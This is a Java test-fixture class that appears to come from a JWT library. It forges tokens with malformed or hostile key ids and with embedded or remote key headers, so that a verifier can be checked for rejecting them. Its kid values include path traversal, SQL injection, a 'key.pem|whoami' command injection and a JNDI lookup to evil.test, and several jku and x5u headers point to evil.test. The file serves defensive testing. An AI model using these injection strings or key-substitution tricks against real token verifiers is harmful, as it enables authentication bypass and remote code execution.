package dev.signet.token.forgery;

import static dev.signet.token.verdict.Reason.BAD_SIGNATURE;
import static dev.signet.token.verdict.Reason.MALFORMED;
import static dev.signet.token.verdict.Reason.UNKNOWN_KEY;

import dev.signet.token.key.KeySet;
import dev.signet.token.key.SigningKey;
import dev.signet.token.verdict.Reason;
import java.util.List;
import java.util.Locale;

/** The key is found by its name in the issuer's set, and nowhere else (RFC 8725 §3.10). */
final class KeyForgeries {

    private final Forge forge;
    private final Forgeries all;

    KeyForgeries(Forge forge, Forgeries all) {
        this.forge = forge;
        this.all = all;
    }

    void collect() {
        namelessAndMistyped();
        unknownNames();
        strangersKey();
        keysInTheHeader();
        extensions();
    }

    private void namelessAndMistyped() {
        all.add(
                "kid missing",
                forge.sign(forge.header().without("kid"), forge.claims()),
                UNKNOWN_KEY);
        kid("kid empty", "\"\"", UNKNOWN_KEY);
        kid("kid null", "null", MALFORMED);
        kid("kid as a number", "0", MALFORMED);
        kid("kid as a boolean", "true", MALFORMED);
        kid("kid as a list", "[\"" + forge.key().kid() + "\"]", MALFORMED);
        kid("kid as an object", "{\"kid\":\"" + forge.key().kid() + "\"}", MALFORMED);
    }

    private void unknownNames() {
        String kid = forge.key().kid();
        text("kid unknown", "k1");
        text("kid in upper case", kid.toUpperCase(Locale.ROOT));
        text("kid with a space behind", kid + " ");
        text("kid with a zero byte behind", kid + "\\u0000");
        text("kid cut short", kid.substring(1));
        text("kid as a path", "../../../../../../dev/null");
        text("kid as a Windows path", "C:\\\\Windows\\\\win.ini");
        text("kid as a URI", "https://evil.test/jwks.json");
        text("kid as SQL", "x' UNION SELECT 'AAAA' --");
        text("kid as a command", "key.pem|whoami");
        text("kid as a lookup", "${jndi:ldap://evil.test/a}");
        text("kid as a pattern", "*");
        text("kid of an embedded key", "embedded");
        text("kid longer than any", "k".repeat(KeySet.KID_LENGTH_MAX + 1));
        text("kid huge", "k".repeat(8_000));
    }

    private void strangersKey() {
        byte[] claims = forge.claims().utf8();
        SigningKey stranger = forge.stranger;
        all.add(
                "signed by a stranger",
                Forge.sign(stranger, forge.header(stranger).utf8(), claims),
                UNKNOWN_KEY);
        all.add(
                "signed by a stranger under a known kid",
                Forge.sign(stranger, forge.header().utf8(), claims),
                BAD_SIGNATURE);
        all.add(
                "signed by another key of the issuer",
                Forge.sign(forge.second, forge.header().utf8(), claims),
                BAD_SIGNATURE);
    }

    /** CVE-2018-0114 and kin: the token brings the key that it is to be verified with. */
    private void keysInTheHeader() {
        String jwk = publicJwk(forge.stranger);
        String jwks = "https://evil.test/jwks.json";
        inHeader("jwk", jwk);
        inHeader("jku", '"' + jwks + '"');
        inHeader("jku of the issuer", "jku", '"' + Forge.ISSUER + "@evil.test/jwks\"");
        inHeader("x5u", "\"https://evil.test/cert.pem\"");
        inHeader("x5c", "[\"MIIBszCCAVmgAwIBAgIUA\"]");
        inHeader("x5t#S256", "\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"");
        inHeader("keys", "{\"keys\":[" + jwk + "]}");
    }

    private void inHeader(String member, String raw) {
        inHeader(member, member, raw);
    }

    private void inHeader(String what, String member, String raw) {
        SigningKey stranger = forge.stranger;
        byte[] claims = forge.claims().utf8();
        byte[] known = forge.header().with(member, raw).utf8();
        byte[] own = forge.header(stranger).with(member, raw).utf8();
        byte[] nameless = forge.header(stranger).without("kid").with(member, raw).utf8();
        all.add(
                what + " of a stranger, known kid",
                Forge.sign(stranger, known, claims),
                BAD_SIGNATURE);
        all.add(what + " of a stranger, own kid", Forge.sign(stranger, own, claims), UNKNOWN_KEY);
        all.add(
                what + " of a stranger, no kid",
                Forge.sign(stranger, nameless, claims),
                UNKNOWN_KEY);
    }

    private static String publicJwk(SigningKey key) {
        String set = KeySet.of(List.of(key.verificationKey())).toJson();
        return set.substring(set.indexOf('[') + 1, set.lastIndexOf(']'));
    }

    /** Signed by the right key, and yet nothing that we could understand. */
    private void extensions() {
        extension("crit with an unknown name", "crit", "[\"urn:x\"]");
        extension("crit with a known name", "crit", "[\"exp\"]");
        extension("crit empty", "crit", "[]");
        extension("crit null", "crit", "null");
        extension("crit as text", "crit", "\"b64\"");
        extension("b64 false", "b64", "false");
        extension("b64 true", "b64", "true");
        extension("zip", "zip", "\"DEF\"");
        extension("enc", "enc", "\"A128GCM\"");
        Json critical = forge.header().with("b64", "false").with("crit", "[\"b64\"]");
        all.add("b64 false and critical", forge.sign(critical, forge.claims()), MALFORMED);
    }

    private void extension(String kind, String member, String raw) {
        all.add(kind, forge.sign(forge.header().with(member, raw), forge.claims()), MALFORMED);
    }

    private void text(String kind, String kid) {
        kid(kind, '"' + kid + '"', UNKNOWN_KEY);
    }

    private void kid(String kind, String raw, Reason expected) {
        all.add(kind, forge.sign(forge.header().with("kid", raw), forge.claims()), expected);
    }
}
